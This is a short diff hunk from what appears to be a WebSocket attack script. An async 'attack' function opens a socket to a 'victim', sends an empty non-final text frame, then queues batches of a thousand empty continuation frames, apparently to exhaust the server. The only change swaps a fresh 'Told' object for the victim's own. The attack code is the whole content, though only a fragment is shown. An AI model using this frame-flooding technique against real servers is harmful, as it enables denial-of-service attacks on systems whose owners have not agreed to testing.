@@ -7,7 +7,7 @@ _AT_ONCE = 1_000
 
 
 async def attack(victim: Victim, most: int) -> Told:
-    told = Told()
+    told = victim.told
     async with web_socket(victim) as socket:
         await socket.send(frame(b"", TEXT, final=False))
         empty = frame(b"", CONTINUATION, final=False) * _AT_ONCE
